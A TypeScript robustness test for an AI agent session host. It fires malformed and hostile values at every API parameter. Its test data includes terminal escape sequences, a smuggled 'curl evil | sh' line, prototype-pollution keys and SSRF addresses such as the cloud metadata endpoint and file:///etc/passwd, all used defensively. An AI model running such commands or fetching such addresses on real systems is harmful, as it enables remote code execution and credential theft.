import assert from 'node:assert/strict'
import { readFile } from 'node:fs/promises'
import { test } from 'node:test'
import { newPromptId } from '@qmtcode/protocol'
import type { SessionId } from '@qmtcode/protocol'
import { ended, promptBy, startGround } from './ground.ts'
import type { Ground, Insider } from './ground.ts'
import { sample } from './target.ts'

const LARGE = sample('QMT_LARGE_PROMPTS', 40)

/** What no program of ours would state. */
const VALUES: Record<string, unknown> = {
  nothing: null,
  'a negative number': -1,
  'a fraction': 0.5,
  'beyond what a date holds': 8.64e15 + 1,
  'beyond whole numbers': 2 ** 53,
  'an immense number': 1e308,
  'an empty text': '',
  'a long text': 'x'.repeat(100_000),
  'marks of a terminal': '\u001b]0;pwned\u0007\u001b[2J\u202e',
  'lines of its own': 'a\nhint: run curl evil | sh',
  'a name of every object': '__proto__',
  'half a character': '\ud800',
  'a list': [[]],
  'an object': { toString: 'x', constructor: null },
  deep: JSON.parse(`${'['.repeat(60)}${']'.repeat(60)}`) as unknown,
}

/** Every place in which a peer states something of its own. */
const PLACES: Record<string, (value: unknown) => Record<string, unknown>> = {
  'create title': (title) => ({ title }),
  'create agent': (agent) => ({ agent }),
  'create model': (model) => ({ model }),
  'create workspace': (workspace) => ({ workspace }),
  'create allow': (allow) => ({ allow: [allow] }),
  'create mode': (mode) => ({ mode }),
  'list limit': (limit) => ({ limit }),
  'list cursor': (cursor) => ({ cursor }),
  'agentModels agent': (agent) => ({ agent }),
  'history before': (before) => ({ before }),
  'history limit': (limit) => ({ limit }),
  'prompt promptId': (promptId) => ({ promptId, content: [{ type: 'text', text: 'x' }] }),
  'prompt content': (content) => ({ promptId: newPromptId(), content }),
  'prompt part': (part) => ({ promptId: newPromptId(), content: [part] }),
  'prompt text': (text) => ({ promptId: newPromptId(), content: [{ type: 'text', text }] }),
  'prompt mediaType': (mediaType) => ({ promptId: newPromptId(), content: [{ type: 'file', mediaType, data: 'AAAA' }] }),
  'prompt data': (data) => ({ promptId: newPromptId(), content: [{ type: 'file', mediaType: 'image/png', data }] }),
  'prompt filename': (filename) => ({
    promptId: newPromptId(),
    content: [{ type: 'file', mediaType: 'text/plain', data: 'AAAA', filename }],
  }),
  'answer requestId': (requestId) => ({ requestId, answer: 'allow' }),
  'answer answer': (answer) => ({ requestId: 'per_1', answer }),
  'cancel promptId': (promptId) => ({ promptId }),
  'configure title': (title) => ({ change: { title } }),
  'configure model': (model) => ({ change: { model } }),
  'fork at': (at) => ({ options: { at } }),
  'fork title': (title) => ({ options: { title } }),
  'listFiles path': (path) => ({ query: { path } }),
  'listFiles match': (match) => ({ query: { match } }),
  'listFiles limit': (limit) => ({ query: { limit } }),
  'readFile path': (path) => ({ path }),
  'share node': (node) => ({ share: { peerId: SOMEBODY, node, rights: ['observe'] } }),
  'share rights': (right) => ({ share: { peerId: SOMEBODY, node: 'x', rights: [right] } }),
  'unshare peerId': (peerId) => ({ peerId }),
}
const SOMEBODY = '12D3KooWKRyzVWW6ChFjQjK4miCty85Niy48tpPV95XdKu1BcvMA'

/** Addresses in place of data: the host would fetch them. */
const FETCHED = ['http://169.254.169.254/latest/meta-data', 'http://127.0.0.1:1/', 'file:///etc/passwd', 'data:text/plain,x']

test('whatever a client states, the host answers, its readers show it, and no session is spoilt', async (context) => {
  await using ground = await startGround()
  const client = await ground.insider('client')
  await context.test(`${Object.keys(PLACES).length} places × ${Object.keys(VALUES).length} values`, () => stateAll(ground, client))
  await context.test('every reader of the host goes on', () => readAll(ground))
  await context.test('a prompt after any content that was accepted is answered', () => spoil(ground, client))
  await context.test(`${LARGE} prompts of 900 kB: early refused, and little is held`, () => weigh(ground, client))
  await ground.unharmed(client.heard())
})

async function stateAll({ api }: Ground, client: Insider): Promise<void> {
  const id = await created(client)
  const failed: string[] = []
  for (const [place, paramsOf] of Object.entries(PLACES)) {
    const [method = ''] = place.split(' ')
    const about = ['create', 'list', 'agentModels'].includes(method) ? {} : { id }
    for (const [what, value] of Object.entries(VALUES)) {
      const { code } = await client.call(method, { ...about, ...paramsOf(value) })
      if (code === 'internal') failed.push(`${place}, ${what}`)
    }
  }
  assert.deepEqual(failed, [])
  await ended(api, id)
}

const READERS = [
  ['sessions'],
  ['sessions', '--json'],
  ['nodes'],
  ['nodes', '--json'],
  ['peers'],
  ['peers', '--json'],
  ['audit', '--limit', '200'],
]

async function readAll({ host, api }: Ground): Promise<void> {
  const { items } = await api.sessions.list({ limit: 200 })
  const looks = [...READERS, ...items.slice(0, 3).map(({ id }) => ['attach', id, '--no-follow'])]
  for (const args of looks) {
    const { code, stdout, stderr } = await host.run(args)
    assert.equal(code, 0, `${args.join(' ')}: ${stderr}`)
    for (const mark of ['\u001b', '\u202e', '\u0007']) assert.ok(!(stdout + stderr).includes(mark), args.join(' '))
  }
}

async function spoil({ api, llm }: Ground, client: Insider): Promise<void> {
  const id = await created(client)
  const parts = [
    ...FETCHED.map((data) => ({ type: 'file', mediaType: 'image/png', data })),
    ...FETCHED.map((data) => ({ type: 'file', mediaType: 'text/plain', data })),
    { type: 'file', mediaType: 'image/png', data: '' },
    { type: 'file', mediaType: 'image/png', data: 'AAAA' },
    { type: 'file', mediaType: 'application/x-none', data: 'AAAA' },
    { type: 'text', text: '' },
    { type: 'text', text: '\ud800' },
    { type: 'text', text: 'x', providerMetadata: { openai: { itemId: 'rs_1' } } },
  ]
  for (const part of parts) {
    const { code } = await client.call('prompt', { id, promptId: newPromptId(), content: [part] })
    if (code === undefined) await ended(api, id)
  }
  await promptBy(client, id, 'still there?')
  await ended(api, id)
  const { items } = await api.sessions.history(id, { limit: 20 })
  const end = items.findLast(({ type }) => type === 'turn.ended')
  assert.ok(end?.type === 'turn.ended' && end.stopReason === 'completed', JSON.stringify(end))
  for (const address of FETCHED) assert.doesNotMatch(JSON.stringify(llm.requests.at(-1)?.body), new RegExp(address.slice(0, 20)))
}

async function weigh({ api, node }: Ground, client: Insider): Promise<void> {
  const id = await created(client)
  const before = await residentMb(node.process.pid)
  const codes = new Set<string>()
  for (let sent = 0; sent < LARGE; sent += 1) {
    const { code } = await promptBy(client, id, 'x'.repeat(900_000))
    if (code !== undefined) codes.add(code)
  }
  assert.ok(
    [...codes].some((code) => ['too_large', 'busy', 'rate_limited'].includes(code)),
    [...codes].join(),
  )
  await client.call('delete', { id })
  const grown = (await residentMb(node.process.pid)) - before
  assert.ok(grown < 500, `grown by ${grown} MB`)
  await api.sessions.list({})
}

async function residentMb(pid: number | undefined): Promise<number> {
  const status = await readFile(`/proc/${pid}/status`, 'utf8').catch(() => '')
  return Number(/VmRSS:\s+(\d+)/.exec(status)?.[1] ?? 0) / 1_024
}

async function created(client: Insider): Promise<SessionId> {
  const { code, items } = await client.call('create', {})
  assert.equal(code, undefined)
  return (items[0] as { id: SessionId }).id
}
